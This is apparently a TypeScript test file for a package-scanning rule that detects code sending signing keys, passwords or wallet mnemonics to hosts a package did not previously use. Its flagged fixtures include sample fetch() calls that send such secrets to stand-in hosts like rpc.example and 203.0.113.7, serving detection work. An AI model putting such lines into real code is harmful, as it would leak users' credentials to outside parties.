import { keyMaterialSent } from '../../../src/rules/code/key-material-sent.js'
import type { Severity } from '../../../src/rules/rule.js'
import { anAnalysedPackage } from '../../builders/analysed-package.js'
import { codeFacts, codeObservation } from '../../builders/code-finding.js'
import { aDependencyChange } from '../../builders/dependency-change.js'
import { testRule } from '../../rule-tester.js'

const upgrade = aDependencyChange()
const addition = aDependencyChange({ before: null })

const toNewHost = 'sends keys or passwords that it is given to a host that the version before did not know'
const toOtherHost = 'sends keys or passwords that it is given to a host that is not its own'

/** `code` in the second line of a function that is given a key; what it sends stands there as a whole. */
const given = (key: string, code: string) => ({ 'index.js': `exports.sign = (${key}) => {\n${code}\n}` })
const sendsTo = (host: string, key: string) => `fetch('https://${host}/queue', { headers: { 'x-id': ${key} } })`

const observation = (message: string, key: string, host: string, severity: Severity = 'high') =>
  codeObservation(
    message,
    [
      ['key', `exports.sign = (${key}) => {`, 'index.js', 1, 17],
      ['sent', sendsTo(host, key), 'index.js', 2, 1],
      ['host', host, 'index.js', 2, 1],
    ],
    { severity },
  )

const quiet = given('secretKey', 'return secretKey.length')
const added = async (files: Record<string, string>, manifest: object = {}) => ({
  package: await anAnalysedPackage(files, manifest),
})

testRule(keyMaterialSent, {
  clear: [
    {
      name: 'a host that the version before named',
      subject: upgrade,
      facts: await codeFacts(
        { 'index.js': "exports.ping = () => fetch('https://api.pad.example/')" },
        given('token', sendsTo('rpc.pad.example', 'token')),
      ),
    },
    {
      name: "the package's own service",
      subject: upgrade,
      facts: await codeFacts(quiet, given('token', sendsTo('api.pad.example', 'token')), {
        homepage: 'https://www.pad.example/docs',
      }),
    },
    {
      name: 'the service that a variable is named for',
      subject: upgrade,
      facts: await codeFacts(quiet, given('', sendsTo('api.padding.example', 'process.env.PADDING_TOKEN'))),
    },
    {
      name: 'a new client of a service',
      subject: addition,
      facts: await added(given('apiKey', sendsTo('api.padding.example', 'apiKey'))),
    },
    {
      name: "a service of one's own name, where nobody else can have it",
      subject: upgrade,
      facts: {
        package: await anAnalysedPackage(given('apiKey', sendsTo('pad.googleapis.com', 'apiKey')), {
          name: '@pad/web',
        }),
        previousPackage: await anAnalysedPackage(quiet, { name: '@pad/web' }),
      },
    },
    {
      name: 'an address that the caller names',
      subject: upgrade,
      facts: await codeFacts(quiet, given('secretKey, url', "fetch(url, { method: 'POST', body: secretKey })")),
    },
    {
      name: 'a signature that is made with a key',
      subject: upgrade,
      facts: await codeFacts(
        quiet,
        given(
          'secretKey, text',
          "fetch('https://rpc.example/', { headers: { mac: require('crypto').createHmac('sha256', secretKey).update(text).digest('hex') } })",
        ),
      ),
    },
  ],
  flagged: [
    {
      name: 'a signing key in a header to a new host',
      subject: upgrade,
      facts: await codeFacts(quiet, given('secretKey', sendsTo('rpc.example', 'secretKey'))),
      observations: [observation(toNewHost, 'secretKey', 'rpc.example')],
    },
    {
      name: 'a password to a new host',
      subject: upgrade,
      facts: await codeFacts(quiet, given('password', sendsTo('rpc.example', 'password'))),
      observations: [observation(toNewHost, 'password', 'rpc.example')],
    },
    {
      name: 'a key to a host that only took the name of the package',
      subject: upgrade,
      facts: {
        package: await anAnalysedPackage(given('password', sendsTo('pad.web.app', 'password')), { name: '@pad/web' }),
        previousPackage: await anAnalysedPackage(quiet, { name: '@pad/web' }),
      },
      observations: [observation(toNewHost, 'password', 'pad.web.app')],
    },
    {
      name: 'a new homepage that claims the new host',
      subject: upgrade,
      facts: {
        package: await anAnalysedPackage(given('mnemonic', sendsTo('rpc.example', 'mnemonic')), {
          homepage: 'https://rpc.example',
        }),
        previousPackage: await anAnalysedPackage(quiet),
      },
      observations: [observation(toNewHost, 'mnemonic', 'rpc.example')],
    },
    {
      name: 'a signing key that a new package sends',
      subject: addition,
      facts: await added(given('privateKey', sendsTo('rpc.example', 'privateKey'))),
      observations: [observation(toOtherHost, 'privateKey', 'rpc.example')],
    },
    {
      name: 'a password that a new package sends to an address without a name',
      subject: addition,
      facts: await added(given('password', sendsTo('203.0.113.7', 'password'))),
      observations: [observation(toOtherHost, 'password', '203.0.113.7')],
    },
  ],
})
